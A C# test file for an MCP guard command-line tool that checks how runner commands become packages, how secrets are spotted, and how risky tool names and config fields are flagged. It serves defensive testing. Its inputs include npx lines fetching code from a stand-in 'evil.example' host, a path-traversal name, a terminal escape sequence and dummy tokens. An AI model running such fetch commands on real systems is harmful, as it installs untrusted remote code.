using System.Text.Json;
using Mcp.Guard.Cli.Drafts;
using Mcp.Guard.Cli.Terminal;
using Mcp.Guard.Policy;

namespace Mcp.Guard.Tests.Cli;

/// <summary>What <c>init</c> makes of command lines, configurations, names and schemas, before anything is started.</summary>
[TestFixture]
internal sealed class DraftTests
{
    [TestCase("npx -y @scope/server@1.2.3 /srv", "npm:@scope/server@1.2.3", "/srv")]
    [TestCase("npx @scope/server /srv", "npm:@scope/server@", "/srv")]
    [TestCase("npx -y server@latest -y", "npm:server@latest", "-y")]
    [TestCase("npx --package=tools@1.0.0 run-it a", "npm:tools@1.0.0#run-it", "a")]
    [TestCase("npx -p tools@1.0.0 run-it", "npm:tools@1.0.0#run-it", "")]
    [TestCase("npm exec -y -- server@1.0.0 a", "npm:server@1.0.0", "a")]
    [TestCase("pnpm dlx server@1.0.0", "npm:server@1.0.0", "")]
    [TestCase("cmd /c npx -y server@1.0.0", "npm:server@1.0.0", "")]
    [TestCase("C:\\node\\npx.cmd -y server@1.0.0", "npm:server@1.0.0", "")]
    [TestCase("dnx Server@1.0.0 --yes -- a", "dotnet:Server@1.0.0", "--yes -- a")]
    [TestCase("dotnet tool exec Server@1.0.0", "dotnet:Server@1.0.0", "")]
    public void Convert_RunnerOfOnePackage_BecomesAPackage(string line, string package, string arguments)
    {
        ServerDraft draft = Convert(line);
        string kind = draft.Registry == PackageKind.Dotnet ? "dotnet" : "npm";
        Assert.That(draft.Command, Is.Null);
        Assert.That($"{kind}:{draft.Package}@{draft.Version}{(draft.Executable is null ? "" : "#" + draft.Executable)}", Is.EqualTo(package));
        Assert.That(string.Join(' ', draft.Arguments), Is.EqualTo(arguments));
    }

    [TestCase("npx -c 'anything at all'")]
    [TestCase("npx --registry=https://evil.example server")]
    [TestCase("npx ./local")]
    [TestCase("npx https://evil.example/x.tgz")]
    [TestCase("npx github:evil/x")]
    [TestCase("npx npm:alias@1.0.0")]
    [TestCase("npx -y")]
    [TestCase("dnx Server")]
    [TestCase("uvx server")]
    [TestCase("node /srv/npx.js")]
    public void Convert_AnythingElse_StaysACommandForTheReaderToJudge(string line) => Assert.That(Convert(line).Package, Is.Null);

    [TestCase("API_KEY", "x", true)]
    [TestCase("GITHUB_PERSONAL_ACCESS_TOKEN", "x", true)]
    [TestCase("DB", "postgres://me:pw@host/db", true)]
    [TestCase("URL", "https://example.com/hook?code=1", true)]
    [TestCase("URL", "https://user:pw@example.com/", true)]
    [TestCase("X", "ghp_abcdefghijklmnopqrstuvwxyz0123456789", true)]
    [TestCase("X", "A7f9Kq2Lm8Zx4Rt6Yp1Wc3Vb5Nd0Eg", true)]
    [TestCase("X", "123456789012345", true)]
    [TestCase("X", "hunter2hunter2hunter2hunter2", true)]
    [TestCase("MODE", "fast", false)]
    [TestCase("DEBUG", "1", false)]
    [TestCase("REGION", "us-east-1", false)]
    [TestCase("BASE", "https://api.example.com/v1", false)]
    [TestCase("FOLDER", "/srv/project", false)]
    [TestCase("EMPTY", "", false)]
    public void IsSecret_Value_IsJudgedWithDoubtForTheReference(string name, string value, bool expected) =>
        Assert.That(SecretLook.IsSecret(name, value), Is.EqualTo(expected));

    [TestCase(null, "--api-key=abc", true)]
    [TestCase("--token", "abc", true)]
    [TestCase(null, "ghp_abcdefghijklmnopqrstuvwxyz0123456789", true)]
    [TestCase("--root", "/srv", false)]
    [TestCase(null, "--mode=fast", false)]
    public void IsSecretArgument_Argument_IsFound(string? before, string argument, bool expected) =>
        Assert.That(SecretLook.IsSecretArgument(before, argument), Is.EqualTo(expected));

    [TestCase("run_command", "runs programs")]
    [TestCase("execCommand", "runs programs")]
    [TestCase("files.delete", "stops or destroys")]
    [TestCase("send-email", "sends or publishes")]
    [TestCase("getSecrets", "handles credentials")]
    [TestCase("read_file", null)]
    [TestCase("presentation", null)]
    [TestCase("research", null)]
    public void Find_Name_SaysWhatItMeans(string tool, string? expected) => Assert.That(DangerousNames.Find(tool), Is.EqualTo(expected));

    [Test]
    public void Paths_OfASchema_AreFoundAtEveryDepth()
    {
        using JsonDocument schema = JsonDocument.Parse("""
            { "type": "object", "properties": {
              "path": { "type": "string" }, "paths": { "type": "array", "items": { "type": "string" } }, "count": { "type": "integer" },
              "target": { "type": "string", "format": "path" }, "file": { "type": "object", "properties": { "dir": { "type": "string" }, "text": { "type": "string" } } },
              "a/b_file": { "type": ["string", "null"] }, "dir": { "type": "boolean" }, "source": { "anyOf": [{ "type": "string" }, { "type": "array", "items": { "type": "string" } }] } } }
            """);
        Assert.That(ToolPaths.Find(schema.RootElement), Is.EqualTo((string[])["/a~1b_file", "/file/dir", "/path", "/paths/*", "/source", "/source/*", "/target"]));
    }

    [Test]
    public void Read_ConfigurationOfVsCode_TakesCommentsVariablesAndUrls()
    {
        using var folder = new TemporaryFolder();
        Directory.CreateDirectory(folder.File(".vscode"));
        string file = folder.File(".vscode/mcp.json");
        File.WriteAllText(file, """
            { // comments and trailing commas
              "inputs": [{ "id": "key", "type": "promptString" }],
              "servers": {
                "web": { "type": "http", "url": "https://mcp.example.com/mcp", "headers": { "Authorization": "Bearer ${input:key}", "X-Mode": "fast" } },
                "old": { "type": "sse", "url": "https://mcp.example.com/sse" },
                "queried": { "url": "https://mcp.example.com/mcp?token=hunter2" },
                "local": { "command": "node", "args": ["${workspaceFolder}/server.js"], "env": { "KEY": "${input:key}" } },
                "one": { "command": "a", "env": { "KEY": "same" } },
                "two": { "command": "a", "env": { "KEY": "same" } },
                "three": { "command": "a", "env": { "KEY": "other" } },
                "off": { "command": "a", "disabled": true },
              }
            }
            """);
        ClientConfiguration read = ClientConfiguration.Read(file);
        Dictionary<string, ServerDraft> drafts = read.Servers.ToDictionary(draft => draft.Id, StringComparer.Ordinal);
        Assert.Multiple(() =>
        {
            Assert.That(drafts.Keys, Is.EquivalentTo((string[])["web", "old", "local", "one", "two", "three"]));
            Assert.That(drafts["web"].Headers["Authorization"].Secret, Is.EqualTo("AUTHORIZATION"));
            Assert.That(drafts["web"].Headers["X-Mode"].Literal, Is.EqualTo("fast"));
            Assert.That(drafts["old"].IsSse, Is.True);
            Assert.That(drafts["local"].Arguments, Is.EqualTo((string[])[Path.GetDirectoryName(Path.GetDirectoryName(file)) + "/server.js"]));
            Assert.That(drafts["one"].Environment["KEY"].Secret, Is.EqualTo(drafts["two"].Environment["KEY"].Secret));
            Assert.That(drafts["three"].Environment["KEY"].Secret, Is.Not.EqualTo(drafts["one"].Environment["KEY"].Secret));
            Assert.That(read.Refused.Select(refused => refused.Name), Is.EquivalentTo((string[])["queried", "off"]));
            Assert.That(read.Refused.Select(refused => refused.Problem), Has.None.Contains("hunter2"));
        });
    }

    [TestCase("plain", "plain")]
    [TestCase("with space", "with-space")]
    [TestCase("../../etc", "etc")]
    [TestCase("\u001b[2J", "2J")]
    [TestCase("\u6587\u5b57", "server")]
    [TestCase("", "server")]
    public void IdOf_AnyName_IsAnIdOfAPolicy(string name, string expected)
    {
        var taken = new HashSet<string>(StringComparer.Ordinal);
        Assert.That(ClientConfiguration.IdOf(name, taken), Is.EqualTo(expected));
        Assert.That(ClientConfiguration.IdOf(name, taken), Is.EqualTo(expected + "-2"));
        Assert.That(PolicyText.IsId(expected, 64), Is.True);
    }

    [TestCase("{")]
    [TestCase("\"text\"")]
    [TestCase("{ \"mcpServers\": [] }")]
    public void Read_NoConfiguration_IsAFaultThatNamesTheFile(string text)
    {
        using var folder = new TemporaryFolder();
        File.WriteAllText(folder.File("x.json"), text);
        Assert.That(() => ClientConfiguration.Read(folder.File("x.json")), Throws.TypeOf<CommandFault>().With.Message.Contains("x.json"));
    }

    private static ServerDraft Convert(string line)
    {
        string[] words = line.Split(' ');
        return RunnerConversion.Convert(new ServerDraft { Id = "s", Command = words[0], Arguments = words[1..] });
    }
}
